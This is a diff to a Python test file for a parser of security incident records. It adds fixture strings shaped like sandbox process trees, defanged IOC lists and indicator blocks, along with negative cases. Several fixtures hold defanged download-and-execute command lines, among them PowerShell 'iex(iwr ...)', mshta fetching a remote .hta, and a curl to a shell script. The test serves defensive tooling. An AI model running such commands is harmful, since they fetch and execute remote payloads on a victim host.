@@ -22,7 +22,14 @@ RECORDS = [
     'powershell.exe -w h -c "iex(irm hxxps://x[.]top/v)"\n- Status: contained',
     "Containment checklist\n[x] Host: WS-0231 isolated\n[ ] Triage package: not collected yet",
     "Dec 04 10:00:01 web01 sshd[1123]: Accepted publickey for deploy\nDec 04 10:00:02 web01 "
-    "systemd[1]: Started Session 41",
+    "systemd[1]: Started Session 41",  # a sandbox's process tree: the root with its id, branches drawn in front of the children
+    'Process tree\nexplorer.exe (PID 4120)\n └─ powershell.exe -w hidden -c "iex(iwr '
+    'hxxps://x[.]top/p)" (PID 6644)\n     └─ rundll32.exe C:\\Users\\a\\x.dll,Start (PID 7012)',
+    # indicators alone on their lines, as IOC lists give them
+    "IOCs (defanged)\n- cdn-check[.]example\n- 185.220.101[.]14\n- SHA256 "
+    + "8f3a1c2d" * 8
+    + "\nCommand seen in RunMRU: mshta hxxps://cdn-check[.]example/v.hta",
+    "Indicators\nDomain: verify[.]example\nhxxps://verify[.]example/c.hta\n" + "ab" * 16,
 ]
 
 
@@ -45,6 +52,13 @@ def test_a_record_is_read_as_one(text: str) -> None:
         "Host: WS-0412\ncat a | grep b | sh",
         # one line is no record
         "Process: mshta.exe hxxps://x[.]top/p.hta",
+        # a program line with no id after it, a host that is not defanged, a word that is no
+        # hash: none of them a tree's row or an indicator
+        "Process tree\npowershell.exe -w hidden -c iwr hxxps://x[.]top/p | iex",
+        "Process tree\nexplorer.exe\nVerdict: blocked",
+        "IOCs\n- cdn-check.example\nVerdict: blocked",
+        "IOCs\n- deadbeefcafe\nVerdict: blocked",
+        "IOCs\n- x[.]top && curl hxxps://x[.]top/i.sh\nVerdict: blocked",
         "",
     ],
 )
